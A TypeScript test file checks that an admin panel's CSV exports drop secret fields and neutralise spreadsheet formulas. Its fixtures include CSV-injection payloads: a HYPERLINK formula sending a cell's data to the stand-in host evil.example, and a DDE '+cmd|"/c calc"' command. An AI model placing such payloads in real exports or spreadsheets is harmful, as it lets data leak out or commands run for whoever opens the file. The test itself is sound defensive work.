/**
 * The CSV columns of the list exports: human columns only, never a secret, and what a spreadsheet
 * would run as a formula is made text (csvSafe) on the way out, as ExportAllButton writes them.
 */
import type { RaRecord, TranslateFunction } from 'ra-core';
import { describe, expect, it } from 'vitest';
import { auditCsvRows } from '../../src/audit/auditExport';
import { exportFormat, type ExportFormat } from '../../src/common/ExportAllButton';
import { csvSafeRows } from '../../src/common/csvSafe';
import { customerCsvRows } from '../../src/customers/customerExport';
import { buyOrderCsvRows, sellOrderCsvRows } from '../../src/orders/orderExports';
import { transactionCsvRows, walletTransactionCsvRows } from '../../src/transactions/transactionExports';

/** A translate that shows which key it was asked, so the tests see the labels chosen. */
const translate = ((key: string) => `t(${key})`) as TranslateFunction;
const FORMAT: ExportFormat = exportFormat(translate, 'en');

const SECRETS = {
  code: 'CODE-SECRET-1234567',
  serial: 'SERIAL-SECRET-99',
  token: 'tok_live_SECRET',
  payer: 'PAYER-SECRET',
  password: 'hunter2-SECRET',
  kycDocument: 'kyc/abc/passport-SECRET.png',
};
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A3,"Open")';

/** An order with every field the API sends, secrets included, and a formula in its text fields. */
const order = {
  id: 'o1',
  _id: 'o1',
  sOrderId: 'ORD-1',
  sEmail: 'ann@example.com',
  sFullName: FORMULA,
  sTitle: 'Steam 20',
  sDescription: '+cmd|"/c calc"!A1',
  eCurrency: 'usd',
  nPrice: 20,
  nQuantity: 2,
  eType: 'Buy',
  nStatus: 1,
  eStatus: 'Pending',
  eGateway: 'PayPal',
  sPayerId: SECRETS.payer,
  sPaymentId: 'PAY-1',
  sPaymentToken: SECRETS.token,
  sTransactionId: 'TX-1',
  nTotalAmount: -6.36,
  nWalletAmount: 0,
  dCreatedAt: '2026-11-20T10:30:00.000Z',
  aCartData: [{ _id: 'l1', sTitle: '@SUM(1+1)', nQuantity: 2, nPrice: 20, eCurrency: 'usd', aImages: [] }],
  aExtraCharges: [],
  aCardCode: [{ _id: 'c1', sOrderContent: SECRETS.code, sSerialNo: SECRETS.serial, dViewedAt: null }],
};
const transaction = { ...order, eStatus: 'Success', nTotalQuantity: 2, nEarnedLp: 1, nUsedLp: 0 };
const wallet = { ...order, eStatus: 'Success', sType: 'Top Up', iUserId: 'u1', nBalanceAfter: 10 };
const customer = {
  id: 'u1',
  _id: 'u1',
  sEmail: 'ann@example.com',
  sFullName: FORMULA,
  sUserName: '-annie',
  sMobileNumber: '+33612345678',
  sCountry: 'FR',
  sCity: 'Paris',
  sState: '',
  eCurrency: 'eur',
  sCoverPicture: 'cover/u1.png',
  sProfilePicture: 'profile/u1.png',
  eStatus: 'y',
  sKycStatus: 's',
  dCreatedAt: '2026-11-20T10:30:00.000Z',
  sPassword: SECRETS.password,
  token: SECRETS.token,
  oKycDetails: { sFrontImage: SECRETS.kycDocument },
};
const audit = {
  id: 'a1',
  _id: 'a1',
  dCreatedAt: '2026-11-20T10:30:00.000Z',
  iAdminId: 'admin1',
  sAdminEmail: 'admin@example.com',
  sAdminName: FORMULA,
  sAction: 'order.deliver',
  sResource: 'order',
  iRecordId: 'o1',
  sRecordLabel: 'ORD-1',
  aChanges: [{ sField: 'aCardCode', before: [], after: [SECRETS.code] }],
};

const EXPORTS: [
  string,
  (records: RaRecord[], format: ExportFormat) => Record<string, unknown>[],
  RaRecord,
][] = [
  ['buy orders', buyOrderCsvRows, order],
  ['sell orders', sellOrderCsvRows, order],
  ['transactions', transactionCsvRows, transaction],
  ['wallet transactions', walletTransactionCsvRows, wallet],
  ['customers', customerCsvRows, customer],
  ['audit trail', auditCsvRows, audit],
];

const SECRET_FIELDS = [
  'aCardCode',
  'sOrderContent',
  'sSerialNo',
  'sPaymentToken',
  'sPayerId',
  'sPassword',
  'token',
  'oKycDetails',
  'sProfilePicture',
  'sCoverPicture',
];

describe('list exports', () => {
  it.each(EXPORTS)('%s: no secret field, no secret value', (_, toRows, record) => {
    const [row] = csvSafeRows(toRows([record], FORMAT));
    for (const field of SECRET_FIELDS) expect(row).not.toHaveProperty(field);
    const text = JSON.stringify(row);
    for (const secret of Object.values(SECRETS)) expect(text).not.toContain(secret);
  });

  it.each(EXPORTS)('%s: every cell is a plain value (no nested record)', (_, toRows, record) => {
    const [row] = toRows([record], FORMAT);
    for (const value of Object.values(row)) expect(['string', 'number', 'boolean']).toContain(typeof value);
  });

  it.each(EXPORTS)('%s: a formula-looking value leaves as text', (_, toRows, record) => {
    const [row] = csvSafeRows(toRows([record], FORMAT));
    for (const value of Object.values(row)) {
      // A plain number ('+33612345678', '-6.36') is no formula and stays as it is.
      if (typeof value === 'string' && !/^[+-]?\d+([.,]\d+)?$/.test(value))
        expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(Object.values(row)).toContain(`'${FORMULA}`);
  });

  it('amounts stay numbers, the currency in its own column, dates as the lists show them', () => {
    const [row] = csvSafeRows(buyOrderCsvRows([order], FORMAT));
    expect(row.nTotalAmount).toBe(-6.36);
    expect(row.eCurrency).toBe('USD');
    expect(row.dCreatedAt).toMatch(/^20-11-2026 \d\d:30 (AM|PM)$/);
    const [french] = buyOrderCsvRows([order], exportFormat(translate, 'fr'));
    expect(french.dCreatedAt).toMatch(/^20-11-2026 \d\d:30$/);
  });

  it('codes become the screens’ labels', () => {
    expect(customerCsvRows([customer], FORMAT)[0]).toMatchObject({
      sKycStatus: 't(gd.kyc.status.s)',
      eStatus: 't(gd.customers.status.y)',
    });
    expect(sellOrderCsvRows([order], FORMAT)[0].eStatus).toBe('t(gd.orders.sell_status.Pending)');
    expect(auditCsvRows([audit], FORMAT)[0].sAction).toBe('t(gd.audit.actions.order.deliver)');
  });
});
